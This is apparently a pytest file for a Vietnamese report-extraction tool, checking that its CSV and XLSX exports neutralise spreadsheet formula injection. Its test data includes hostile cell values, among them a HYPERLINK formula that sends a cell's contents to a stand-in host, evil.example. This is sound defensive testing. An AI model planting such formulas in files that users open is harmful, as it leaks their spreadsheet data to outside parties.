"""Document text never runs in a spreadsheet: the same hostile strings pushed through every
CSV and XLSX writer (``export --format csv|xlsx``, ``sql --csv``, ``figures --csv``,
``extract --csv``, the report workbook) come out neutralised (CSV) or as string cells (XLSX),
reversibly, with numbers left as numbers."""

from __future__ import annotations

import csv
import io
import json
import sqlite3
from collections.abc import Iterable
from decimal import Decimal
from pathlib import Path

import pytest
from click.testing import CliRunner
from openpyxl import Workbook, load_workbook

from extractor.check.runner import CheckResult
from extractor.cli import main
from extractor.report.sources import FigureLine
from extractor.report.workbook import write_xlsx
from extractor.store.outputs import (
    CSV_RISKY_STARTS,
    csv_field,
    csv_row,
    restore_csv_field,
    write_xlsx_row,
    xlsx_cell_value,
)

from .conftest import CORPUS

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&C2,"Chi tiết")',
    "+1+2",
    "-2+3",
    "@SUM(A1)",
    "\tTAB",
    "\rCR",
    "'quoted",
    "Tổng số đảng viên toàn Đảng bộ là 7.261 đồng chí",  # a normal Vietnamese string
]
NEGATIVE, FLOAT = -5.0, 2.5
REPORT = "004-chi-thi-sinh-hoat-chi-bo.txt"  # one figure (002-ket-luan-huyen-uy.txt has none to update)


# ---------------------------------------------------------------- the helpers themselves


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@A1", "'@A1"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("'x", "''x"),
        ("''x", "'''x"),
        ("x=1", "x=1"),
        (" =1", " =1"),
        ("", ""),
        ("Đảng viên", "Đảng viên"),
        (-5, -5),
        (-5.5, -5.5),
        (Decimal("-1.5"), Decimal("-1.5")),
        (True, True),
        (None, None),
    ],
)
def test_csv_field_neutralises_text_only_and_reverses(value, written):
    assert csv_field(value) == written
    if isinstance(value, str):
        assert restore_csv_field(written) == value


def test_csv_row_and_xlsx_cell_value():
    assert csv_row({"a": "=x", "b": -1, "c": None}) == {"a": "'=x", "b": -1, "c": None}
    assert xlsx_cell_value("a\x07b\x0bc") == "abc"
    assert xlsx_cell_value(-5) == -5


@pytest.mark.parametrize("write_only", [True, False])
def test_write_xlsx_row_writes_text_as_string_cells(tmp_path, write_only):
    book = Workbook(write_only=write_only)
    sheet = book.create_sheet("x") if write_only else book.active
    values = [*HOSTILE, "#N/A", NEGATIVE, FLOAT, None, True]
    write_xlsx_row(sheet, values)
    write_xlsx_row(sheet, ["=1", 1, "=2"])  # a row after a row: no cell left as a formula
    book.save(tmp_path / "x.xlsx")
    cells = _cells(tmp_path / "x.xlsx")
    assert [c.value for c in cells[: len(values)]] == values
    assert [c.data_type for c in cells[: len(values)]] == ["s"] * (len(HOSTILE) + 1) + ["n", "n", "n", "b"]
    assert "f" not in {c.data_type for c in cells}


# ---------------------------------------------------------------- a database with hostile text


@pytest.fixture(scope="module")
def hostile_db(tmp_path_factory) -> str:
    """``ingest`` of one corpus report, then one copy of its figure per hostile string, with that
    string as ``sentence``, ``raw`` and ``subject_text`` and the value -5 or 2.5."""
    db = tmp_path_factory.mktemp("outputs") / "hostile.db"
    result = CliRunner().invoke(main, ["ingest", str(CORPUS / REPORT), "--db", str(db), "--silent"])
    assert result.exit_code == 0, result.output
    with sqlite3.connect(db) as conn:
        cols = [r[1] for r in conn.execute("PRAGMA table_info(figures)") if r[1] != "id"]
        (first,) = conn.execute("SELECT min(id) FROM figures").fetchone()
        assert first is not None, f"{REPORT} has no figure"
        conn.execute("DELETE FROM figures WHERE id != ?", (first,))
        names = ", ".join(cols)
        copied = ", ".join("?" if c == "fid" else c for c in cols)
        for i, text in enumerate(HOSTILE):
            conn.execute(f"INSERT INTO figures ({names}) SELECT {copied} FROM figures WHERE id = ?", (f"h{i}", first))
            conn.execute(
                "UPDATE figures SET sentence = ?, raw = ?, subject_text = ?, value = ? WHERE id = last_insert_rowid()",
                (text, text, text, NEGATIVE if i % 2 else FLOAT),
            )
        conn.execute("DELETE FROM figures WHERE id = ?", (first,))
    return str(db)


def invoke(*args: str) -> str:
    result = CliRunner().invoke(main, list(args))
    assert result.exit_code == 0, result.output
    return result.output


def _check_csv(rows: list[dict[str, str]], text_columns: Iterable[str], number_columns: Iterable[str]) -> None:
    """No text field starts with a risky character; one ``'`` removed gives the hostile strings
    back; numbers are written as numbers."""
    assert rows
    for row in rows:
        texts = [field for column, field in row.items() if column not in number_columns]
        assert not any(field.startswith(CSV_RISKY_STARTS) for field in texts), row
    for column in text_columns:
        assert {restore_csv_field(r[column]) for r in rows} == set(HOSTILE), column
        for r in rows:
            original = restore_csv_field(r[column])
            assert r[column] == (original if original == HOSTILE[-1] else "'" + original)
    for column in number_columns:
        assert all(not r[column].startswith("'") and float(r[column]) in (NEGATIVE, FLOAT) for r in rows), column
    assert {r["value"] for r in rows} <= {"-5", "-5.0", "2.5"} and any(r["value"].startswith("-") for r in rows)


def _read_csv(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def test_export_csv(hostile_db, tmp_path):
    out = tmp_path / "csv"
    invoke("export", "--format", "csv", str(out), "--db", hostile_db)
    with open(out / "figures.csv", encoding="utf-8", newline="") as fh:  # newline="": a \r in a field stays
        rows = _read_csv(fh.read())
    _check_csv(rows, ["sentence", "raw", "subject_text"], ["value"])


def test_figures_csv(hostile_db):
    rows = _read_csv(invoke("figures", "--csv", "--db", hostile_db))
    _check_csv(rows, ["sentence", "raw", "subject_text"], ["value"])


def test_sql_csv(hostile_db):
    sql = "SELECT sentence, raw, subject_text, value, -5 AS negative, 2.5 AS float, '-5' AS text FROM figures"
    rows = _read_csv(invoke("sql", sql, "--csv", "--db", hostile_db))
    _check_csv(rows, ["sentence", "raw", "subject_text"], ["value", "negative", "float"])
    assert {(r["negative"], r["float"], r["text"]) for r in rows} == {("-5", "2.5", "'-5")}  # typed by the value


def test_json_is_left_unchanged(hostile_db, tmp_path):
    rows = json.loads(invoke("figures", "--json", "--db", hostile_db))
    assert {r["sentence"] for r in rows} == set(HOSTILE)
    invoke("export", "--format", "json", str(tmp_path / "x.json"), "--db", hostile_db)
    exported = json.loads((tmp_path / "x.json").read_text(encoding="utf-8"))
    assert {r["raw"] for r in exported["figures"]} == set(HOSTILE)


def test_extract_csv(tmp_path):
    lines = [
        "ĐẢNG BỘ TỈNH HÀ TĨNH",
        "Số 12-BC/TU",
        "BÁO CÁO",
        "kết quả công tác năm 2023",
        f"{HOSTILE[0]} Toàn Đảng bộ có 7.261 đảng viên.",
        "@SUM(A1) Kết nạp 120 đảng viên mới.",
        "-2+3 Có 45 chi bộ được xếp loại hoàn thành tốt nhiệm vụ.",
        "'quoted Có 12 đảng viên được tặng Huy hiệu Đảng.",
    ]
    report = tmp_path / "hostile.txt"
    report.write_text("\n\n".join(lines) + "\n", encoding="utf-8")
    rows = _read_csv(invoke("extract", "--csv", str(report), "--silent"))
    assert rows
    for row in rows:
        assert not any(field.startswith(CSV_RISKY_STARTS) for field in row.values()), row
        assert not row["value"].startswith("'") and float(row["value"]) > 0
    sentences = {restore_csv_field(r["sentence"]) for r in rows}
    for line in lines[4:]:
        assert any(s.startswith(line.split()[0]) for s in sentences), line
    assert {r["sentence"][:2] for r in rows} >= {"'=", "'@", "'-", "''"}


# ---------------------------------------------------------------- XLSX


def _cells(path: Path) -> list:
    book = load_workbook(path)
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def _check_xlsx(path: Path) -> None:
    cells = _cells(path)
    assert "f" not in {c.data_type for c in cells}, "a formula cell"
    strings = {c.value for c in cells if c.data_type == "s"}
    assert set(HOSTILE) <= strings
    numbers = {c.value for c in cells if c.data_type == "n"}
    assert {NEGATIVE, FLOAT} <= numbers


def test_export_xlsx(hostile_db, tmp_path):
    out = tmp_path / "x.xlsx"
    invoke("export", "--format", "xlsx", str(out), "--db", hostile_db)
    _check_xlsx(out)


def test_report_workbook(tmp_path):
    lines = [
        FigureLine("x.txt", 1, "body", None, text, None, None, NEGATIVE if i % 2 else FLOAT, text, "count", text, text)
        for i, text in enumerate(HOSTILE)
    ]
    write_xlsx(CheckResult([], {}), lines, tmp_path / "report.xlsx")
    _check_xlsx(tmp_path / "report.xlsx")
